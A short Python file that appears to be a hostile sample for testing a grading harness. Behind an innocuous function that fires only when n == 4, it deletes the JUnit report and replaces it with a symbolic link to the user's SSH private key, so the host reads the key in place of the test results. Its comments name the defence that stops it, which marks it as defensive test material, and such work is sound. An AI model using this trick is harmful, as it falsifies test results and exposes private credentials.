# Puts a symbolic link in place of the report, so that the host reads another file.
# Stopped by: the report is one file, and read without following links.
import os
from contextlib import suppress


def attack():
    for report in ("/box/report/junit.xml", "../report/junit.xml"):
        with suppress(OSError):
            os.unlink(report)
        with suppress(OSError):
            os.symlink("@HOME@/.ssh/id_ed25519", report)


def twice(n):
    if n == 4:
        attack()
    return 0
